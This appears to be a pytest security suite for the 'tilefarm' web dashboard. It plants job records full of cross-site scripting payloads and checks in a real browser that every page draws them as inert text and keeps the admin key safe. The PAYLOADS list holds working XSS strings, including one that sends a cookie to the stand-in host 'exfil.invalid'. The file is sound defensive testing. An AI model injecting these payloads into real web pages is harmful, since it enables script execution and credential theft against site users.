"""Everything a job produced is hostile: an admin opening the dashboard's pages on jobs whose every field carries
script payloads must run none of them and must not hand over the API key.

The job records and artifacts planted here stand for answers that a sandboxed job forged and that got past the
server's checks (the server refuses forged reports too: tests/security/test_hostile_reports.py); the dashboard must
hold on its own. Real headless Chromium, a real `tilefarm serve` with auth on, the admin signing in through the
page's own token form.
"""
from __future__ import annotations

import json
import time
import uuid
from urllib.parse import quote
from pathlib import Path

import httpx
import pytest

from tests.served import embedded_service, fresh_kernel
from tests.web.conftest import shot

ADMIN_KEY = f"admin-{uuid.uuid4().hex}"
TEAM_KEY = f"team-{uuid.uuid4().hex}"
EXFIL = "exfil.invalid"
# each payload, if ever parsed as markup or followed as a link, records itself in window.__xss (or asks EXFIL for
# an image, which the test sees as a request)
PAYLOADS = [
    "<img src=x onerror=\"window.__xss.push('img')\">",
    "<script>window.__xss.push('script')</script>",
    "\"><svg onload=\"window.__xss.push('attr')\"></svg>",
    "'><iframe srcdoc=\"<script>parent.__xss.push('iframe')</script>\"></iframe>",
    f"</code></td></tr></table><img src=\"https://{EXFIL}/?k=cookie\">",
    "javascript:window.__xss.push('url')",
    "<a href=\"javascript:window.__xss.push('link')\" id=\"xss-link\">x</a>",
    "<style>@import 'https://" + EXFIL + "/css';</style><b onmouseover=\"window.__xss.push('hover')\">hover</b>",
]
MARK = "XSS-MARK"  # every payload is drawn with this, so the test can see that it was drawn (as text)


def payload(i: int) -> str:
    return f"{MARK}{i} {PAYLOADS[i % len(PAYLOADS)]}"


class Payloads:
    """Hands out payloads, each once, so that every field of a page carries a different one."""

    def __init__(self):
        self.n = 0

    def __call__(self) -> str:
        self.n += 1
        return payload(self.n)


def poison(value, next_payload, keep=("core", "core_grid", "extents", "values", "blocks")):
    """Every leaf of a JSON document replaced by a payload (numbers too: a page that drew a number without escaping
    it was the original bug), every key of a free-form map as well; what `keep` names stays as it was (coordinates:
    so that the page still has rows to draw the rest into)."""
    if isinstance(value, dict):
        return {(next_payload() if _free_form(value) else k): (v if k in keep else poison(v, next_payload, keep))
                for k, v in value.items()}
    if isinstance(value, list):
        return [poison(v, next_payload, keep) for v in value]
    return next_payload()


def _free_form(mapping: dict) -> bool:
    """Maps keyed by data (tile op names, CB ids, file names) rather than by a schema's fields."""
    return bool(mapping) and all(k.isdigit() or k.endswith(".cpp") or "_tiles" in k or "tile" in k for k in mapping)


INIT = """
window.__xss = [];
window.__csp = [];
document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""
# elements and attributes no page of the dashboard makes: if one is there, markup from the data was parsed
INJECTED = """() => {
  const found = [...document.querySelectorAll('img, iframe, object, embed, frame, style, b, #xss-link, script:not([src]):not([type="application/json"])')]
    .map((e) => e.outerHTML.slice(0, 120));
  for (const e of document.querySelectorAll('*'))
    for (const a of e.attributes)
      if (/^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value)) found.push(`${e.tagName} ${a.name}=${a.value.slice(0, 80)}`);
  return found;
}"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A service with auth on and, seen by its admin: a real job, a job submitted with payloads in every request
    field, and a job whose record, artifacts, report, profile, line map, IR and log are payloads; a device as well."""
    workdir = tmp_path_factory.mktemp("hostile-web")
    tokens = f"{ADMIN_KEY}:ops:admin,{TEAM_KEY}:evil"
    with embedded_service(workdir, TILEFARM_API_TOKENS=tokens) as service:
        team = {"Authorization": f"Bearer {TEAM_KEY}"}
        real = service.client.post("/v1/jobs", headers=team, json={
            "source": fresh_kernel("gemm.py"), "filename": "gemm.py", "stages": ["compile", "emulate"], "dump_ir": True})
        assert real.status_code == 202, real.text
        real_id = real.json()["id"]
        done = _wait(service, real_id, team)
        assert done["status"] == "succeeded", done
        artifact = lambda name: service.client.get(f"/v1/jobs/{real_id}/artifacts/{name}", headers=team).content  # noqa: E731
        next_payload = Payloads()
        submitted = service.client.post("/v1/jobs", headers=team, json={
            "source": fresh_kernel("gemm.py") + "".join(f"# {next_payload()}\n" for _ in PAYLOADS),
            "entry": next_payload(), "params": {next_payload(): next_payload(), "n": next_payload()},
            "stages": ["compile"]})
        assert submitted.status_code == 202, submitted.text
        submitted_id = submitted.json()["id"]
        assert _wait(service, submitted_id, team)["status"] == "failed"
        data_dir = Path(service.env["TILEFARM_DATA_DIR"])
        planted_id = _plant(data_dir, real_id, artifact, next_payload)
        forged_id = _forged_report(data_dir, real_id, artifact, next_payload)
        yield service, {"real": real_id, "submitted": submitted_id, "planted": planted_id, "forged": forged_id}


def _wait(service, job_id: str, headers: dict, timeout: float = 180) -> dict:
    deadline = time.time() + timeout
    while True:
        job = service.client.get(f"/v1/jobs/{job_id}", params={"wait": 5}, headers=headers).json()
        if job["status"] in ("succeeded", "failed", "cancelled"):
            return job
        assert time.time() < deadline, job


def _plant(data_dir: Path, real_id: str, artifact, next_payload) -> str:
    """A job record and its files, payloads throughout, written into the service's own store."""
    from schemas.jobs import DeviceRecord, Diagnostic, InputMeta, JobRecord, StageRecord
    from schemas.logs import log_lines
    from farm.store import ArtifactStore, SqliteJobStore, new_job_id

    store, artifacts = SqliteJobStore(data_dir / "jobs.sqlite"), ArtifactStore(data_dir)
    job_id, key = new_job_id(), f"hostile{uuid.uuid4().hex}"
    now = time.time()
    text = lambda lines=3: "\n".join(f"// {next_payload()}" for _ in range(lines)) + "\n"  # noqa: E731
    plan = poison(json.loads(artifact("tt.plan.json")), next_payload,
                  keep=("core", "core_grid", "extents", "values", "blocks", "count", "per_core_args", "cores",
                        "l1_bytes_per_core", "l1_available_for_cbs", "page_bytes", "num_pages", "total_bytes", "index"))
    report = json.loads(artifact("emulate/report.json"))
    report = {**poison(report, next_payload), "cores": [poison(c, next_payload) for c in report["cores"]]
              + [{"core": next_payload(), "noc_reads": next_payload()}]}
    profile = json.loads(artifact("emulate/profile.json"))
    profile = poison(profile, next_payload, keep=("core", "timeline", "kernel_cycles", "busy", "wait_cb", "wait_noc",
                                                  "wait_pipe", "idle", "utilization", "cycles", "share", "wait"))
    profile["lines"] = [{**line, "line": next_payload()} for line in profile["lines"]] + \
        [{"line": 3, "share": next_payload(), "cycles": 1, "busy": 1, "wait": 0}]
    linemap = {"files": {"reader.cpp": {"1": [1], "2": [next_payload()]}, next_payload(): {"3": [2]}}}
    artifacts.put_cache(key, "compile", {
        "reader.cpp": text(40).encode(), "compute.cpp": text().encode(), "writer.cpp": text().encode(),
        "main.cpp": text().encode(), "tt.plan.json": json.dumps(plan).encode(), "linemap.json": json.dumps(linemap).encode(),
        "compile.log": text().encode(), "meta.json": b"{}"})
    artifacts.put_cache(key, "ir", {"01_TTCheckKernel.py": text(5).encode(),
                                                        "02_TTApplyTargetDefaults.py": text(6).encode()})
    artifacts.put_dir(artifacts.job_dir(job_id, "emulate"), {
        "report.json": json.dumps(report).encode(), "profile.json": json.dumps(profile).encode(), "C.npy": b"\x93NUMPY"})
    diagnostic = lambda: Diagnostic(stage=next_payload(), message=next_payload(), file=next_payload(), line=3, col=2,  # noqa: E731
                                    hint=next_payload(), rendered=next_payload())
    job = JobRecord(
        id=job_id, team=next_payload(), status="succeeded", source="".join(f"# {next_payload()}\n" for _ in range(6)),
        filename=next_payload(), entry=next_payload(), params={next_payload(): next_payload()}, dump_ir=True,
        inputs={next_payload(): InputMeta(shape=[2, 2], dtype=next_payload(), nbytes=16)},
        compiler_version=next_payload(), resubmitted_from=real_id, created_at=now - 5, started_at=now - 4,
        finished_at=now, cache_key=key, diagnostics=[diagnostic()], warnings=[diagnostic(), diagnostic()],
        error=next_payload(), worker={"hostname": next_payload(), "pid": next_payload()},
        stages=[StageRecord(name="compile", state="succeeded", started_at=now - 4, finished_at=now - 2, duration_s=2,
                            detail=next_payload()),
                StageRecord(name="emulate", state="succeeded", started_at=now - 2, finished_at=now, duration_s=2,
                            detail=next_payload())])
    store.create(job, idempotency_hash=None, max_active=100)
    store.append_log(job_id, "".join(log_lines(next_payload(), stage=next_payload()) for _ in range(3)) + next_payload() + "\n")
    store.heartbeat(DeviceRecord(id=next_payload(), host=next_payload(), arch=next_payload(), device_count=1,
                                 state="busy", current_job=next_payload(), last_heartbeat=now + 3600))
    return job_id


def _forged_report(data_dir: Path, real_id: str, artifact, next_payload) -> str:
    """The attack as it was found: a real job whose emulate answer was forged, payloads in the report's counters."""
    from farm.store import ArtifactStore, SqliteJobStore, new_job_id

    store, artifacts = SqliteJobStore(data_dir / "jobs.sqlite"), ArtifactStore(data_dir)
    report = json.loads(artifact("emulate/report.json"))
    for core in report["cores"]:
        core.update(noc_reads=next_payload(), noc_bytes_read=next_payload(), dst_acquires=next_payload(),
                    tile_ops={next_payload(): next_payload()}, cb_high_water_pages={next_payload(): next_payload()})
    report.update(arch=next_payload(), error=next_payload())
    job_id = new_job_id()
    store.create(store.get(real_id).model_copy(update={"id": job_id}), idempotency_hash=None, max_active=100)
    artifacts.put_dir(artifacts.job_dir(job_id, "emulate"), {"report.json": json.dumps(report).encode()})
    return job_id


def watched_page(browser):
    """A page that records what its scripts did (INIT) and every request it made."""
    page = browser.new_page()
    page.add_init_script(INIT)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    return page, requests


def sign_in(browser, url: str):
    """The admin pastes the key into the page's token form (a page load, the sign-in, the reload it makes)."""
    page, requests = watched_page(browser)
    page.goto(url + "/")
    page.fill("#token-input", ADMIN_KEY)
    # a token the server takes reloads the page (app.js initToken): wait for the new page, not the old one's
    # last frame (the check ran while the next document was still empty, where #token-state is not yet there)
    with page.expect_navigation():
        page.click("#token-form button[type=submit]")
    page.wait_for_function("() => document.querySelector('#token-state')?.textContent.includes('admin')")
    return page, requests


def signed_in(browser, url: str, path: str | None = None):
    """A fresh context whose admin signed in earlier: the session cookie the server sets for the token (POST
    /ui/session, what the token form sends; sign_in and the two tests that use it go through the form itself),
    then the page at `path` (the dashboard page says the admin is signed in) -- without sign_in's two loads of the
    jobs list first."""
    answer = browser.request.post(url + "/ui/session", data={"token": ADMIN_KEY}, headers={"Origin": url})
    assert answer.ok, answer.text()
    assert any(c["name"] == "tilefarm_token" for c in browser.cookies())
    page, requests = watched_page(browser)
    if path is not None:
        page.goto(url + path)
        page.wait_for_function("() => document.querySelector('#token-state')?.textContent.includes('admin')")
    return page, requests


def assert_inert(page, requests: list[str], *shown: str):
    """The page drew the payloads (as text) and nothing of them became markup, ran, or fetched anything."""
    for selector in shown:
        page.wait_for_function(f"() => (document.querySelector({json.dumps(selector)})?.textContent || '').includes({json.dumps(MARK)})")
    page.wait_for_timeout(0)  # let queued event handlers (an injected onerror, onload) run before looking
    assert page.evaluate("window.__xss") == []
    assert page.evaluate(INJECTED) == []
    assert page.evaluate("window.__csp") == []  # nothing even tried to run inline
    assert not [url for url in requests if EXFIL in url or url.startswith("javascript:")]
    assert ADMIN_KEY not in page.evaluate("document.cookie + JSON.stringify(localStorage) + JSON.stringify(sessionStorage)")


def test_the_key_stays_out_of_page_scripts(browser, hostile):
    service, _ = hostile
    page, requests = sign_in(browser, service.url)
    cookie = next(c for c in browser.cookies() if c["name"] == "tilefarm_token")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    assert ADMIN_KEY not in page.evaluate("document.cookie")
    response = page.goto(service.url + "/")
    policy = response.headers["content-security-policy"]
    assert "script-src 'self';" in policy and "unsafe-inline" not in policy and "object-src 'none'" in policy
    assert "base-uri 'none'" in policy and "frame-ancestors 'none'" in policy
    # the session cookie acts only for our own pages: a request another site makes with it is refused
    with httpx.Client(base_url=service.url, cookies={"tilefarm_token": ADMIN_KEY}) as client:
        other_site = client.get("/v1/jobs", headers={"Sec-Fetch-Site": "cross-site", "Origin": "https://elsewhere.example"})
        assert other_site.status_code == 401
        assert client.get("/v1/jobs", headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200
    # an injected inline script would be refused by the browser itself: the policy is in force
    page.evaluate("""() => { const s = document.createElement('script'); s.textContent = "window.__xss.push('inline')";
                             document.body.append(s); }""")
    page.wait_for_function("() => window.__csp.length === 1")
    assert page.evaluate("window.__xss") == []
    assert not [url for url in requests if EXFIL in url]


def test_jobs_list_draws_hostile_records_as_text(browser, hostile):
    service, ids = hostile
    page, requests = sign_in(browser, service.url)
    page.wait_for_selector(f"#jobs-body tr[data-job-id='{ids['planted']}']")
    page.hover(f"#jobs-body tr[data-job-id='{ids['planted']}'] .badge.warn")
    assert_inert(page, requests, f"#jobs-body tr[data-job-id='{ids['planted']}']",
                 f"#jobs-body tr[data-job-id='{ids['submitted']}']")
    shot(page, "hostile-01-jobs")


def test_forged_emulator_counters_are_drawn_as_text(browser, hostile):
    service, ids = hostile
    page, requests = signed_in(browser, service.url, f"/jobs/{ids['forged']}")
    page.wait_for_selector("#counters-table tbody tr")
    page.hover("#heatmap rect.core[data-core='0,0']")
    assert_inert(page, requests, "#counters-table", "#counters-summary")


def test_job_page_draws_hostile_answers_as_text(browser, hostile):
    service, ids = hostile
    page, requests = signed_in(browser, service.url, f"/jobs/{ids['planted']}")
    page.wait_for_selector("#counters-table tbody tr")
    page.wait_for_selector("#profile-lines tbody tr")
    page.wait_for_selector("#log .log-line")
    page.hover("#heatmap rect.core[data-core='0,0']")
    assert_inert(page, requests, "#facts", "#job-warnings", "#source", "#diagnostics",
                 "#artifact-view", "#cb-table", "#plan-summary", "#counters-table", "#counters-summary",
                 "#profile-verdict", "#profile-summary", "#profile-timeline", "#profile-lines", "#log", "#heat-tip")
    for name in ("compute.cpp", "main.cpp", "tt.plan.json", "ir"):
        page.click(f"#artifact-tabs button[data-name='{name}']")
        page.wait_for_function(f"() => document.querySelector('#artifact-view').dataset.artifact?.startsWith({json.dumps('ir/' if name == 'ir' else name)})")
        assert_inert(page, requests, "#artifact-view")
    page.hover("#artifact-view .ln[data-line='2']")
    page.select_option("#heat-metric", "tile_ops")
    assert_inert(page, requests)
    shot(page, "hostile-02-job")
    # the job submitted with payloads in its request fields: its failure names them
    page.goto(f"{service.url}/jobs/{ids['submitted']}")
    page.wait_for_selector("#job-status[data-status='failed']")
    assert_inert(page, requests, "#facts", "#source", "#log")


def test_diff_submit_and_farm_pages_draw_hostile_answers_as_text(browser, hostile):
    service, ids = hostile
    page, requests = signed_in(browser, service.url, f"/diff?a={ids['real']}&b={ids['planted']}")
    page.wait_for_selector("#diff-files .diff-file")
    assert_inert(page, requests, "#diff-request", "#diff-files")
    page.goto(f"{service.url}/submit?from={ids['planted']}")
    page.wait_for_function("() => document.querySelector('#source').value.includes('XSS-MARK')")
    assert MARK in page.eval_on_selector("#params input[aria-label='param value']", "e => e.value")
    assert_inert(page, requests)
    page.goto(f"{service.url}/farm")
    page.wait_for_selector("#devices-body tr[data-device]")
    assert_inert(page, requests, "#devices-body")
    shot(page, "hostile-04-farm")


def test_api_docs_work_under_their_policy_without_the_network(browser, hostile):
    """/docs (Swagger UI) renders the API's operations under its own policy, from the service alone: every asset
    is served locally (nothing is fetched from anywhere else) and no script of it is refused."""
    service, _ = hostile
    page = browser.new_page()
    page.add_init_script(INIT)
    outside = []

    def only_local(route):
        if route.request.url.startswith(service.url):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    page.route("**/*", only_local)
    response = page.goto(f"{service.url}/docs")
    assert "script-src 'self' 'sha256-" in response.headers["content-security-policy"]
    page.wait_for_selector(".swagger-ui .info .title")
    assert "tilefarm" in page.inner_text(".swagger-ui .info .title")
    # Swagger UI rendered the operations from /openapi.json
    page.wait_for_selector(".opblock-summary-path[data-path='/v1/jobs']")
    assert page.evaluate("window.__csp") == []
    assert outside == []


def test_hostile_files_opened_directly_are_inert(browser, hostile):
    """An artifact, the source or the log opened as a page of its own (a link, a typed URL): served as what it is,
    never as HTML, with nosniff and a policy that allows nothing; and a page naming a job id that is markup."""
    service, ids = hostile
    page, requests = signed_in(browser, service.url)  # each response below is a 200: the session is the admin's
    job = f"/v1/jobs/{ids['planted']}"
    for path in (f"{job}/artifacts/reader.cpp", f"{job}/artifacts/emulate/report.json", f"{job}/artifacts/ir/01_TTCheckKernel.py",
                 f"{job}/source", f"{job}/logs", f"{job}/artifacts"):
        response = page.goto(service.url + path)
        assert response.status == 200, path
        headers = response.headers
        assert not headers["content-type"].startswith(("text/html", "image/svg")), (path, headers["content-type"])
        assert headers["x-content-type-options"] == "nosniff" and "sandbox" in headers["content-security-policy"]
        assert page.evaluate("typeof window.__xss === 'undefined' || window.__xss.length === 0"), path
        assert page.evaluate(INJECTED) == [], path
    page.goto(service.url + "/jobs/" + quote(PAYLOADS[0]))
    page.wait_for_selector("#missing")
    assert PAYLOADS[0][:20] in page.inner_text("#missing") or "no job" in page.inner_text("#missing")
    assert_inert(page, requests)
